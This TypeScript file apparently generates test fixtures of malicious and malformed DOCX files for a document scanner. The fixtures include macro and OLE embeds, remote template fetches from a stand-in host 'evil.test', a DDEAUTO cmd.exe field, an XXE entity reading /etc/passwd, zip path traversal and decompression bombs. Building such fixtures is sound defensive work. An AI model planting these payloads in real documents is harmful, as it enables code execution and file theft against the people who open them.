import { hostile, joined, type HostileFile } from './corpus-file'
import { buildDocx, relation } from './docx-builder'
import { buildPdf } from './pdf-builder'
import { buildZip } from './zip-builder'

const field = (text: string) => `<w:p><w:r><w:instrText xml:space="preserve"> ${text} </w:instrText></w:r></w:p>`
const zeros = (megabytes: number) => Buffer.alloc(megabytes * 1024 * 1024, 0x20)

/** Names the document in the first part, by which the kind of a package is told. */
const CONTENT_TYPES =
  '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'

export function activeDocx(): HostileFile[] {
  const override = (part: string, type: string) => `<Override PartName="${part}" ContentType="${type}"/>`
  return [
    ...hostile('DOCX with macros and objects', 'FILE_ACTIVE', {
      'macros.docx': buildDocx({ parts: [{ name: 'word/vbaProject.bin', data: 'x' }] }),
      'macros-elsewhere.docx': buildDocx({ parts: [{ name: 'custom/VBAPROJECT.BIN', data: 'x' }] }),
      'macros-by-type.docx': buildDocx({ types: override('/word/a.bin', 'application/vnd.ms-office.vbaProject') }),
      'macros-by-relation.docx': buildDocx({
        relations:
          '<Relationship Id="r9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="a.bin"/>',
      }),
      'ole.docx': buildDocx({ parts: [{ name: 'word/embeddings/oleObject1.bin', data: 'x' }] }),
      'ole-by-relation.docx': buildDocx({ relations: relation('oleObject', 'a.bin', false) }),
      'workbook-inside.docx': buildDocx({ parts: [{ name: 'word/embeddings/book.xlsx', data: 'PK' }] }),
      'activex.docx': buildDocx({ parts: [{ name: 'word/activeX/activeX1.xml', data: '<a/>' }] }),
      'program-inside.docx': buildDocx({ parts: [{ name: 'word/media/image.exe', data: 'MZ' }] }),
      'file-inside.docx': buildDocx({
        body: '<w:altChunk r:id="r9"/>',
        relations: relation('aFChunk', 'a.html', false),
      }),
    }),
    ...hostile('DOCX that fetches', 'FILE_ACTIVE', {
      'template.docx': buildDocx({ relations: relation('attachedTemplate', 'http://evil.test/a.dotm') }),
      'template-in-settings.docx': buildDocx({
        parts: [
          {
            name: 'word/_rels/settings.xml.rels',
            data: `<Relationships>${relation('attachedTemplate', '\\\\evil\\a.dotm')}</Relationships>`,
          },
        ],
      }),
      'picture.docx': buildDocx({ relations: relation('image', 'http://evil.test/a.png') }),
      'frame.docx': buildDocx({ relations: relation('frame', 'http://evil.test/') }),
      'sub-document.docx': buildDocx({ relations: relation('subDocument', 'http://evil.test/a.docx') }),
      'object.docx': buildDocx({ relations: relation('oleObject', 'http://evil.test/a!x-usc:') }),
      'mode-in-character-codes.docx': buildDocx({
        relations: relation('image', 'http://evil.test/').replace('External', 'Exte&#114;nal'),
      }),
      'relations-in-utf16.docx': buildDocx({
        parts: [
          {
            name: 'word/_rels/footer.xml.rels',
            data: Buffer.from(
              `\ufeff<Relationships>${relation('image', 'http://evil.test/')}</Relationships>`,
              'utf16le',
            ),
          },
        ],
      }),
      'link-to-a-program.docx': buildDocx({ relations: relation('hyperlink', 'file:///c:/windows/calc.exe') }),
      'dde.docx': buildDocx({ body: field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"') }),
      'dde-in-pieces.docx': buildDocx({
        body: '<w:p><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>E cmd</w:instrText></w:r></w:p>',
      }),
      'field-picture.docx': buildDocx({ body: field('INCLUDEPICTURE "http://evil.test/a.png"') }),
      'entities.docx': buildDocx({
        parts: [{ name: 'word/a.xml', data: '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>' }],
      }),
    }),
  ]
}

export function brokenDocx(): HostileFile[] {
  const whole = buildDocx()
  const part = (name: string, data: Uint8Array | string = 'x') => buildDocx({ parts: [{ name, data }] })
  return [
    ...hostile('damaged DOCX', 'FILE_DAMAGED', {
      'path-up.docx': part('../../evil.sh'),
      'path-absolute.docx': part('/etc/passwd'),
      'path-of-windows.docx': part('C:/windows/evil.dll'),
      'path-backslash.docx': part('..\\evil.bat'),
      'same-part-twice.docx': buildDocx({ parts: [{ name: 'word/Document.xml', data: '<w:document></w:document>' }] }),
      'wrong-check-sum.docx': buildDocx({ parts: [{ name: 'word/a.bin', data: 'x', crc: 1 }] }),
      'wrong-size.docx': buildDocx({ parts: [{ name: 'word/a.bin', data: 'xxxx', size: 1 }] }),
      'link.docx': buildDocx({ parts: [{ name: 'word/link', data: '/etc/passwd', attributes: 0xa1ff0000 }] }),
      'document-cut.docx': buildDocx({
        write: (entry) => (entry.name === 'word/document.xml' ? { ...entry, data: '<w:document><w:body>' } : entry),
      }),
      'directory-cut.docx': whole.subarray(0, whole.length - 30),
      'half.docx': whole.subarray(0, whole.length >> 1),
    }),
    ...hostile('DOCX that swells', 'FILE_BOMB', {
      'document.docx': part('word/a.xml', zeros(70)),
      'ratio.docx': part('word/a.xml', zeros(20)),
      'many-parts.docx': buildDocx({
        parts: Array.from({ length: 1500 }, (_, at) => ({ name: `word/${at}.xml`, data: '' })),
      }),
    }),
    ...hostile('DOCX with a password', 'FILE_ENCRYPTED', {
      'zip-password.docx': buildDocx({ parts: [{ name: 'word/secret.xml', data: 'x', flags: 1 }] }),
      'office-password.docx': joined(
        Buffer.from('d0cf11e0a1b11ae1', 'hex'),
        Buffer.alloc(1024),
        Buffer.from('EncryptedPackage', 'utf16le'),
        Buffer.alloc(512),
      ),
    }),
    ...hostile('DOCX that is a PDF too', 'FILE_MIXED', {
      'pdf-in-a-stored-part.docx': buildZip([
        { name: '[Content_Types].xml', data: CONTENT_TYPES, stored: true },
        { name: 'a.pdf', data: buildPdf(), stored: true },
      ]),
    }),
  ]
}
